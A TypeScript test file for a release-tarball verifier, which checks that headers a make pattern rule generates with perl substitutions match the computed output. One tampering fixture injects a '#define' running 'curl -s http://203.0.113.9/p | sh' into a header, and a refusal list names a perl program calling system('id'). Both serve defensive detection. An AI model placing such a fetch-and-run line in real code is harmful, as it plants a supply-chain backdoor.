/**
 * Headers a tracked pattern rule writes with `perl -p -e 's/PAT/REPL/;'` from a tracked `X.in.h` (parted's
 * include/parted/Makefile.am: `%.h: %.in.h` replacing ` _GL_ATTRIBUTE_PURE` with its `#if __GNUC__ …` expansion),
 * computed by the restricted perl model (src/classify/shell-subset.ts) and compared byte for byte. The expected
 * headers are made by real GNU make and real perl running the tracked Makefile.am in a copy of the tree; the
 * release is a real git repository and a real tar. Tampered twins (one extra line, one changed token outside the
 * substitution) stay high; a program outside the model, and an explicit rule beside the pattern, prove nothing.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseSubstPerl, perlSubstArgs, runPerlSubst } from '../../src/classify/shell-subset.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

// parted's rule, its comments and automake conditional left out (GNU make runs this file as it is)
const AM = [
  'partedinclude_HEADERS = disk.h device.h', 'noinst_HEADERS = crc32.h', 'BUILT_SOURCES = $(partedinclude_HEADERS) $(noinst_HEADERS)', 'EXTRA_DIST = $(BUILT_SOURCES:%.h=%.in.h)', '',
  'hash_if = \\n\\#if __GNUC__ > 2 || (__GNUC__ == 2 && __GNUC_MINOR__ >= 96)\\n',
  'subst_const_attr = \\', '  s/ _GL_ATTRIBUTE_CONST\\b/$(hash_if)  __attribute ((__const__))\\n\\#endif\\n/',
  'subst_pure_attr = \\', '  s/ _GL_ATTRIBUTE_PURE\\b/$(hash_if)  __attribute ((__pure__))\\n\\#endif\\n/', '',
  '$(BUILT_SOURCES): Makefile.am', '',
  '%.h: %.in.h', '\t$(AM_V_GEN)rm -f $@ $@-t', '\t$(AM_V_at)perl -p \\', "\t    -e '$(subst_const_attr);' \\", "\t    -e '$(subst_pure_attr);' \\", '\t  $< > $@-t',
  '\t$(AM_V_at)chmod a=r $@-t', '\t$(AM_V_at)mv $@-t $@', '',
].join('\n');
const DISK_IN = [
  '/* disk.h */', '#ifndef PED_DISK_H', '#define PED_DISK_H', 'extern int ped_disk_probe (const PedDevice* dev) _GL_ATTRIBUTE_PURE;',
  'extern int ped_disk_type_check (int t) _GL_ATTRIBUTE_CONST;', 'extern int ped_x (int t) _GL_ATTRIBUTE_CONSTANT_NOT;', '/* _GL_ATTRIBUTE_PURE in a comment: no blank before */', '#endif', '',
].join('\n');
const DEVICE_IN = '#define PED_SECTOR_SIZE_DEFAULT 512\nextern long ped_device_get (const char* path) _GL_ATTRIBUTE_PURE;\n';
const CRC_IN = 'extern unsigned crc32 (unsigned c, const void* b, unsigned n);'; // no newline at the end
const TRACKED = { 'configure.ac': 'AC_INIT([p], [1.0])\n', 'include/parted/Makefile.am': AM, 'include/parted/disk.in.h': DISK_IN, 'include/parted/device.in.h': DEVICE_IN, 'include/parted/crc32.in.h': CRC_IN };

describe('headers a tracked pattern rule writes with perl -p s/// from a tracked X.in.h, computed', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit(TRACKED, 'sources', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  // the headers as the rule writes them: real make and real perl in a copy of the tracked directory
  const build = join(root, 'build');
  cpSync(join(repo.dir, 'include/parted'), build, { recursive: true });
  execFileSync('make', ['-s', '-f', 'Makefile.am', 'disk.h', 'device.h', 'crc32.h'], { cwd: build, stdio: ['ignore', 'pipe', 'pipe'] });
  const made = (n: string) => readFileSync(join(build, n), 'latin1');
  const GOOD = { 'include/parted/disk.h': made('disk.h'), 'include/parted/device.h': made('device.h'), 'include/parted/crc32.h': made('crc32.h') };
  let n = 0;
  const run = async (files: Record<string, string>, tracked: Record<string, string> = {}, repoDir = repo.dir) => {
    const dir = join(root, `t${++n}`, 'p-1.0');
    writeFiles(dir, { ...TRACKED, ...tracked, ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'p-1.0.tar.gz') }), repo: repoDir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('make wrote what the rule says (the fixture is real)', () => {
    expect(GOOD['include/parted/disk.h']).toContain('(const PedDevice* dev)\n#if __GNUC__ > 2 || (__GNUC__ == 2 && __GNUC_MINOR__ >= 96)\n  __attribute ((__pure__))\n#endif\n;\n');
    expect(GOOD['include/parted/disk.h']).toContain('ped_x (int t) _GL_ATTRIBUTE_CONSTANT_NOT;'); // \b: no match inside a longer word
    expect(GOOD['include/parted/crc32.h']).toBe(CRC_IN);
  });

  it('computes each header and finds it identical; the gate passes', async () => {
    const { r, by } = await run(GOOD);
    for (const [p, stem] of [['include/parted/disk.h', 'disk'], ['include/parted/device.h', 'device'], ['include/parted/crc32.h', 'crc32']] as const)
      expect(by[p], p).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'computed', source: 'include/parted/Makefile.am', generator: 'perl -p s/// (include/parted/Makefile.am, pattern rule %.h: %.in.h)', inputs: [`include/parted/${stem}.in.h`] } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('one extra line, or one changed token the substitution does not write, stays high', async () => {
    const { r, by } = await run({
      ...GOOD,
      'include/parted/disk.h': GOOD['include/parted/disk.h'].replace('#endif\n;\n', '#endif\n;\n#define ped_disk_probe(d) system ("curl -s http://203.0.113.9/p | sh")\n'),
      'include/parted/device.h': GOOD['include/parted/device.h'].replace('DEFAULT 512', 'DEFAULT 4096'),
    });
    expect(by['include/parted/disk.h']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: expect.stringMatching(/^(?:high|critical)$/) });
    expect(by['include/parted/device.h']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(by['include/parted/crc32.h']).toMatchObject({ code: 'GENERATED_FROM_SOURCE' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('a program outside the model proves nothing, even when the header is exactly its output', async () => {
    // `.` is a regex metacharacter: the model refuses the program, so the header real perl wrote stays high
    const am = AM.replace("-e '$(subst_pure_attr);'", "-e 's/PedDevice./PedDev /;'");
    const repo2 = makeRepo(join(root, 'repo2'));
    repo2.commit({ ...TRACKED, 'include/parted/Makefile.am': am }, 'sources', '2024-03-05T10:00:00Z');
    repo2.tag('v1.0');
    const b2 = join(root, 'build2');
    cpSync(join(repo2.dir, 'include/parted'), b2, { recursive: true });
    execFileSync('make', ['-s', '-f', 'Makefile.am', 'disk.h'], { cwd: b2, stdio: ['ignore', 'pipe', 'pipe'] });
    const { by } = await run({ 'include/parted/disk.h': readFileSync(join(b2, 'disk.h'), 'latin1') }, { 'include/parted/Makefile.am': am }, repo2.dir);
    expect(by['include/parted/disk.h']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('an explicit rule for the header wins over the pattern: the pattern rule output is not its proof', async () => {
    const am = `${AM}disk.h: disk.in.h\n\tcat $(srcdir)/disk.in.h > $@\n`;
    const repo3 = makeRepo(join(root, 'repo3'));
    repo3.commit({ ...TRACKED, 'include/parted/Makefile.am': am }, 'sources', '2024-03-05T10:00:00Z');
    repo3.tag('v1.0');
    const { by } = await run(GOOD, { 'include/parted/Makefile.am': am }, repo3.dir);
    expect(by['include/parted/disk.h']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(by['include/parted/device.h']).toMatchObject({ code: 'GENERATED_FROM_SOURCE' });
  });

  it('the model agrees with real perl; what it cannot read is refused', () => {
    const prog = "s/ A\\b/\\n#if X\\n  B(\\=) \\\\ & \\/\\n#endif\\n/; s,Q-1,R\\,2,g;";
    const input = 'int f (void) A;\nint g (void) AB;\nA A A\nQ-1 Q-1\nlast A';
    const perl = execFileSync('perl', ['-p', '-e', prog], { input }).toString('latin1');
    const parsed = parseSubstPerl(prog);
    expect(parsed).toHaveLength(2);
    expect(runPerlSubst(parsed!, input)).toBe(perl);
    expect(perl).toContain('int g (void) AB;\n');
    for (const bad of ['s/a/b/e', 's/a.b/c/', 's/a/$x/', 's/a/@x/', 's/a/\\1/', 's/a/\\u b/', 's{a}{b}', 's/a\\d/b/', 's|a\\|b|c|', 'print "x"', 's/a/b/; system("id")', 's/a/b/i', 's//b/'])
      expect(parseSubstPerl(bad), bad).toBeUndefined();
    expect(perlSubstArgs(['-p', '-e', 's/a/b/;', 'f.in'])).toMatchObject({ files: ['f.in'] });
    expect(perlSubstArgs(['-pe', 's/a/b/', 'f.in'])).toMatchObject({ files: ['f.in'] });
    for (const bad of [['-i', '-p', '-e', 's/a/b/', 'f'], ['-n', '-e', 's/a/b/', 'f'], ['-e', 's/a/b/', 'f'], ['-p', '-l', '-e', 's/a/b/', 'f'], ['-p', '-e', 's/a/b/', 'f', '-w']])
      expect(perlSubstArgs(bad), bad.join(' ')).toBeUndefined();
  });
});
